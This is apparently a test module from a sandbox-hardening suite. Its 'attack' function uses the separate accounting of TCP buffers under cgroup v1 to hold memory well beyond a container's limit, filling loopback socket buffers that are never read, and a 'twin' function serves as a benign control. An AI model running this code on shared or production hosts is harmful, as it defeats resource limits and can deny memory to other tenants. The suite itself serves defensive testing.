"""Fill the buffers of connections, beside memory that is used up already.

Technique: with cgroups of version 1 the buffers of TCP are counted apart from all other memory (memory.kmem.tcp), so that
    whoever has one limit for each has twice the memory. Connections over loopback whose other side never reads fill both
    buffers, while ordinary memory is taken up to just below the limit.
Success: buffers and memory together are more than the limit and a half.
Stopped by: memory_cgroup
Held when: refused or limit memory
Needs: memory_cgroup
"""
import socket

LIMIT = parameters.get("memory_bytes_max", 128 << 20)


def connection(server):
    client = socket.create_connection(server.getsockname())
    other, _ = server.accept()
    for end in (client, other):
        end.setblocking(False)
        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
        end.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    return client, other


def fill(end):
    sent = 0
    try:
        while True:
            sent += end.send(bytes(1 << 16))
    except BlockingIOError:
        return sent


def attack():
    memory = bytearray()
    while len(memory) < LIMIT * 3 // 4:
        memory += b"x" * (1 << 20)
    server = socket.create_server(("127.0.0.1", 0))
    ends, buffers = [], 0
    while len(memory) + buffers < 4 * LIMIT and len(ends) < 800:
        ends += connection(server)
        filled = fill(ends[-2]) + fill(ends[-1])
        buffers += filled
        if filled < 1 << 12:
            break
    if len(memory) + buffers > LIMIT * 3 // 2:
        return f"holds {len(memory) >> 20} MB of memory and {buffers >> 20} MB in buffers"


def twin():
    """Much goes through a connection."""
    import threading

    server = socket.create_server(("127.0.0.1", 0))
    data = os.urandom(1 << 20) * 20

    def send():
        with socket.create_connection(server.getsockname()) as client:
            client.sendall(data)

    threading.Thread(target=send).start()
    received, connection = bytearray(), server.accept()[0]
    while chunk := connection.recv(1 << 18):
        received += chunk
    assert received == data
